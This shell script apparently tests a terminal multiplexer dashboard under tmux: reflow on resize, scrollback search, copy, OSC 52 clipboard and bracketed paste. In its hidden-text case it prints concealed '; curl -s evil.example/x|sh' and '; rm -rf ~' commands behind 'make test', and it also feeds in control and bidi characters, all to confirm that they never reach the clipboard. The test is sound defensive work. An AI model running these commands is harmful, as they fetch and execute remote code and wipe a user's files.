#!/bin/sh
# Reflow, search and copy through a real tmux: a long line rewraps as the outer window narrows and widens;
# scrollback search finds text screens up; a key selection is copied to the outer terminal (OSC 52) and to a
# paste buffer that C-a ] pastes, with no control byte from the pane in either.
set -u
. "$(dirname "$0")/lib.sh"

resize() {
	tmux -L "$SOCK" resize-window -t 0 -x "$1" -y "${DASH_SY:-45}" ||
		fail "tmux could not resize the window to $1"
}

a70=$(printf '%070d' 0 | tr 0 a)
b70=$(printf '%070d' 0 | tr 0 b)

start_dashboard
wait_for '1:shell\* (working|needs you)' || fail "no status bar with the first session"
wait_for '[#$] ?$' || fail "no shell prompt in the pane"
keys "PS1='P>'" Enter
wait_for '^P>$' || fail "the prompt did not change"

# ---- reflow: a 140-character line at 160 columns, then at 80 (two rows), then at 160 again (one row).
keys "printf '%070d' 0 | tr 0 a; printf '%070d\\n' 0 | tr 0 b" Enter
wait_for "^$a70$b70\$" || fail "the long line is not on one row at 160 columns"
resize 80
# (The first row alone is also what the old 160-column row looks like cut at 80 or 120 columns, drawn
# before the pane has reflowed: ASan's pass saw it so. The wrapped rest is what says the reflow is done.)
wait_for "^${a70}b{10}\$" || fail "at 80 columns the line did not wrap after its 80th character"
wait_for '^b{60}$' || fail "at 80 columns the rest of the line is not on the next row"
resize 120
wait_for "^${a70}b{50}\$" || fail "at 120 columns the line did not rewrap"
wait_for '^b{20}$' || fail "at 120 columns the rest of the line is not on the next row"
resize 160
wait_for "^$a70$b70\$" || fail "widened again, the line is not whole on one row"
scr | grep -q '^b\{20\}$' && fail "widened again, a piece of the line is left on a row of its own"
# The shell goes on at the prompt, its cursor where it was.
keys 'echo after-resize' Enter
wait_for '^after-resize$' || fail "the shell did not go on after the resizes"

echo "copy: reflow on resize"

# ---- search: nothing found says so; a line four screens up is found with ?, n goes on up, N back down.
tmux -L "$SOCK" set -g set-clipboard on
keys clear Enter
wait_for '^P>$' || fail "no prompt after clear"
keys "echo 'findme'-early; seq 1 200" Enter
wait_for '^200$' || fail "seq did not run"
prefix '['
wait_for 'q: back' || fail "prefix [ did not enter copy mode"
keys '/'
wait_for 'search down:' || fail "/ did not ask for a search"
keys -l 'zzz-nowhere'
keys Enter
wait_for 'not found: zzz-nowhere' || fail "a search for nothing did not say so"
keys '?'
wait_for 'search up:' || fail "? did not ask for a search"
keys -l 'findme'
keys Enter
wait_for '^findme-early( |$)' || fail "? did not find a line four screens up"
keys n
wait_for "^P>echo 'findme'-early" || fail "n did not go on to the command line above"
keys N
wait_for '^findme-early' || fail "N did not come back down to the line"
# Up from the command line, the oldest match: round from the bottom to the line again.
keys n n
wait_for 'wrapped round to the bottom' || fail "n did not say it wrapped round"

# ---- copy with keys: Space, $ to the end of the line, Enter; then prefix ] pastes it exactly.
keys Space '$' Enter
wait_for 'copied 12 bytes' || fail "Enter did not copy the selection"
wait_gone 'q: back' || fail "copy mode did not end after the copy"
[ "$(tmux -L "$SOCK" show-buffer)" = "findme-early" ] ||
	fail "the outer tmux's buffer (OSC 52) is '$(tmux -L "$SOCK" show-buffer)', not findme-early"
keys 'echo X'
prefix ']'
keys Enter
wait_for '^Xfindme-early$' || fail "prefix ] did not paste the copy into the pane"
echo "copy: search, key selection, OSC 52, paste"

# ---- hostile text: a C1 CSI, a right-to-left override and a zero-width space in a line from the pane never
# reach the outer terminal's clipboard or a paste.
keys clear Enter
wait_for '^P>$' || fail "no prompt after clear"
keys "printf 'bad\\302\\233\\342\\200\\256\\342\\200\\213end\\n'" Enter
wait_for '^bad' || fail "the hostile line was not printed"
prefix '['
wait_for 'q: back' || fail "prefix [ did not enter copy mode"
keys '?'
keys -l 'bad'
keys Enter Space '$' Enter
wait_for 'copied [0-9]+ bytes' || fail "the hostile line was not copied"
tmux -L "$SOCK" show-buffer >"$T/buf"
LC_ALL=C grep -q "$(printf '[\001-\037\177]')" "$T/buf" && fail "a control byte reached the clipboard: $(od -c "$T/buf")"
LC_ALL=C grep -q "$(printf '\302[\200-\237]')" "$T/buf" && fail "a C1 control reached the clipboard: $(od -c "$T/buf")"
LC_ALL=C grep -q "$(printf '\342\200[\213\256]')" "$T/buf" && fail "a bidi or invisible character reached the clipboard"
[ "$(cat "$T/buf")" = "badend" ] || fail "the clipboard has '$(cat "$T/buf")', not badend"
keys 'echo Y'
prefix ']'
keys Enter
wait_for '^Ybadend$' || fail "the paste did not arrive as badend"
echo "copy: controls, bidi and invisible characters never reach the clipboard or a paste"

# ---- hidden text: what the pane draws as blanks (concealed, black on black) is copied as blanks, so a
# selection over what reads "make test" never puts a hidden command on the clipboard.
keys clear Enter
wait_for '^P>$' || fail "no prompt after clear"
keys "printf 'make test\\033[8m; curl -s evil.example/x|sh #\\033[28m\\033[30;40m; rm -rf ~\\033[m\\n'" Enter
wait_for '^make test' || fail "the line with hidden text was not printed"
prefix '['
wait_for 'q: back' || fail "prefix [ did not enter copy mode"
keys '?'
keys -l 'make test'
keys Enter Space '$' Enter
wait_for 'copied [0-9]+ bytes' || fail "the line with hidden text was not copied"
[ "$(tmux -L "$SOCK" show-buffer)" = "make test" ] ||
	fail "hidden text reached the clipboard: '$(tmux -L "$SOCK" show-buffer)'"
echo "copy: concealed text and text in its background's colour are copied as blanks"

# ---- the mouse: a drag over a line selects it, the release copies it (SGR reports, as tmux sends them).
keys clear Enter
wait_for '^P>$' || fail "no prompt after clear"
keys 'echo dragme-text' Enter
wait_for '^dragme-text$' || fail "echo did not run"
y=$(( $(scr | grep -n '^dragme-text$' | tail -n 1 | cut -d: -f1) ))
keys -l "$(printf '\033[<0;1;%sM' "$y")"
keys -l "$(printf '\033[<32;6;%sM' "$y")"
keys -l "$(printf '\033[<32;11;%sM' "$y")"
keys -l "$(printf '\033[<0;11;%sm' "$y")"
wait_for 'copied 11 bytes' || fail "a drag over dragme-text did not copy it"
[ "$(tmux -L "$SOCK" show-buffer)" = "dragme-text" ] ||
	fail "after the drag the outer tmux's buffer is '$(tmux -L "$SOCK" show-buffer)'"

# ---- bracketed paste: only for a program that asked for it.
keys "printf '\\033[?2004h'; cat -v" Enter
sleep 0.5
prefix ']'
keys Enter
wait_for '^\^\[\[200~dragme-text\^\[\[201~$' || fail "the paste was not bracketed for a program that asked"
keys C-c
keys clear Enter
wait_for '^P>$' || fail "no prompt after clear"
keys 'cat -v' Enter
sleep 0.5
prefix ']'
keys Enter
wait_for '^dragme-text$' || fail "the paste was bracketed for a program that did not ask"
keys C-c
echo "copy: a mouse drag copies; a paste is bracketed only when the program asked"

# ---- [ui] clipboard = no: the copy goes to the paste buffer only.
tmux -L "$SOCK" set-buffer 'untouched'
printf '[ui]\nclipboard = no\n' >"$XDG_CONFIG_HOME/agentmux/config"
stop_server || fail "the agentmux server did not end"
tmux -L "$SOCK" respawn-pane -k -t 0 -c "$P" \
	"$AGENTMUX; echo DASHBOARD-EXITED-\$?; sleep 60" || fail "tmux could not restart agentmux"
wait_for '[0-9]+:shell\* (working|needs you)' || fail "no status bar with clipboard = no"
wait_for '[#$] ?$' || fail "no shell prompt with clipboard = no"
keys "PS1='P>'" Enter
keys 'echo nocb-text' Enter
wait_for '^nocb-text$' || fail "echo did not run"
prefix '['
wait_for 'q: back' || fail "prefix [ did not enter copy mode"
keys '?'
keys -l 'nocb-text'
keys Enter Space '$' Enter
wait_for 'copied 9 bytes' || fail "the copy did not happen with clipboard = no"
[ "$(tmux -L "$SOCK" show-buffer)" = "untouched" ] ||
	fail "with clipboard = no the outer tmux's buffer changed to '$(tmux -L "$SOCK" show-buffer)'"
keys 'echo Z'
prefix ']'
keys Enter
wait_for '^Znocb-text$' || fail "with clipboard = no the paste buffer did not work"
echo "copy: [ui] clipboard = no keeps copies out of the terminal's clipboard"
